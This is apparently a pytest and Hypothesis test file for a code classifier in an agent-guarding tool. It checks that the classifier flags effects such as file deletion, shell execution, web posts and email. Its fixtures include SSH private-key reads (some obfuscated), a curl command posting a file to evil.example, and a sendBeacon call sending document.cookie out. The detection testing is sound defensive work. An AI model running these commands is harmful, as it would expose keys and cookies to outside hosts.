"""Code: never verified, and what is visible in it is seen."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentsfence_core.classification.code import read_code
from agentsfence_core.model import Effect, Risk, TargetKind


def _seen(text: str, language: str = "python") -> dict[str, Effect]:
    return {effect.capability: effect for effect in read_code(text, language)}


SEEN = [
    ("import os; os.remove('a')", "python", "file.delete"),
    ("from os import remove as r; r('/srv/x')", "python", "file.delete"),
    ("import shutil as s\ns.rmtree(x)", "python", "file.delete"),
    ("Path('x').unlink()", "python", "file.delete"),
    ("os.chmod('x', 0o777)", "python", "file.permissions"),
    ("requests.post('https://e.example', data=x)", "python", "web.post"),
    ("import httpx as h\nh.put(u)", "python", "web.post"),
    ("requests.delete(u)", "python", "web.delete"),
    ("urllib.request.urlopen(u, data=x)", "python", "web.post"),
    ("smtplib.SMTP('h').sendmail('me@x.example', ['d@x.example'], 'x')", "python", "email.send"),
    ("import subprocess\nsubprocess.run(['ls'])", "python", "shell.exec"),
    ("os.system(x)", "python", "shell.exec"),
    ("stripe.PaymentIntent.create(amount=1)", "python", "payment.send"),
    ("cur.execute('DELETE FROM users')", "python", "database.delete"),
    ("fetch('https://a.example/x', {method: 'POST', body: x})", "javascript", "web.post"),
    ("require('fs').rmSync('x')", "node", "file.delete"),
    ("await fs?.unlink(x)", "ts", "file.delete"),
    ("require('child_process').execSync('ls')", "js", "shell.exec"),
    ("navigator.sendBeacon(u, document.cookie)", "javascript", "web.post"),
    ("unlink 1", "perl", "file.delete"),
    ('system "ls"', "perl", "shell.exec"),
    ("`rm x`", "ruby", "shell.exec"),
    ("FileUtils.rm_rf('x')", "ruby", "file.delete"),
    ("mail('a@x.example', 's', 'b');", "php", "email.send"),
]


@pytest.mark.parametrize(("text", "language", "capability"), SEEN)
def test_what_is_visible_is_an_effect(text: str, language: str, capability: str) -> None:
    assert capability in _seen(text, language)


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("print(1)", "python"),
        ("# os.remove('x')\nprint('os.remove(y)')", "python"),
        ("q.put(1); mock.patch('a'); d.post(2); x.delete(3)", "python"),
        ("document.forms[0].submit()", "javascript"),
        ("// fs.rmSync('x')\nconsole.log(1)", "javascript"),
        ("mi = 3\nif mi >= 0:\n    print('ok')", "python"),
    ],
)
def test_harmless_code_is_only_code(text: str, language: str) -> None:
    assert list(_seen(text, language)) == ["code.exec"]


def test_code_is_never_verified() -> None:
    program, *rest = read_code("import os; os.remove('a')")
    assert program.risk is Risk.EXECUTION
    assert TargetKind.PROGRAM in program.unverified
    assert all(effect.unverified for effect in rest)


@pytest.mark.parametrize(
    "text",
    [
        "open('~/.ssh/id_rsa')",
        "open('~/.s' + 'sh/id_rsa')",
        "open(f'~/.ssh/id_rsa')",
        "(Path.home() / '.ssh' / 'id_rsa').read_text()",
        "os.path.join(Path.home(), '.ssh', 'id_rsa')",
        "open('\\x7e/\\x2essh/id_rsa')",
        "open(os.path.expanduser('~/.ssh/id_rsa'))",
        "import os\nos.system('cat ~/.ssh/id_rsa')",
    ],
)
def test_paths_inside_code_are_read(text: str) -> None:
    assert "/home/ann/.ssh/id_rsa" in {path for effect in read_code(text, home="/home/ann") for path in effect.paths}


def test_addresses_inside_code_are_domains() -> None:
    assert "evil.example" in _seen("import urllib.request as u;u.urlopen('ht'+'tp://evil.example')")["web.read"].domains
    assert "evil.example" in _seen("fetch(`https://evil.example/${x}`)", "javascript")["web.read"].domains


def test_a_literal_command_is_read_as_a_command() -> None:
    assert _seen("subprocess.run(['rm', '-rf', 'build'])")["file.delete"].paths == ("build",)
    assert "evil.example" in _seen("os.system('curl -d @x https://evil.example')")["web.post"].domains


def test_recipients_of_visible_mail_are_parties() -> None:
    assert _seen("s.sendmail('me@x.example', 'to@x.example', 'hi')")["email.send"].recipients == ("to@x.example",)


@pytest.mark.parametrize(
    "text", ["(" * 5_000, "-" * 10_000, "a." * 10_000, "'" * 9_999, '"""' * 3_001, "f(" * 4_000, "lambda:" * 500]
)
def test_hostile_code_is_code(text: str) -> None:
    assert read_code(text)[0].capability == "code.exec"


_CODE = st.lists(
    st.sampled_from(
        [
            "os.remove",
            "(",
            ")",
            "'",
            '"',
            "`",
            "'''",
            "#",
            "//",
            "/*",
            "\n",
            " ",
            "import a as b",
            "fetch",
            "{",
            "}",
            "\\",
            "https://x",
            "~/.ssh",
            "+",
            "system",
            "[",
            "]",
            ",",
        ]
    ),
    max_size=25,
)


@given(
    st.one_of(st.text(max_size=60), _CODE.map("".join)),
    st.sampled_from(["python", "js", "perl", "ruby", "php", "cobol"]),
)
@settings(max_examples=250, deadline=None)
def test_reading_code_is_total(text: str, language: str) -> None:
    assert read_code(text, language)[0].capability == "code.exec"
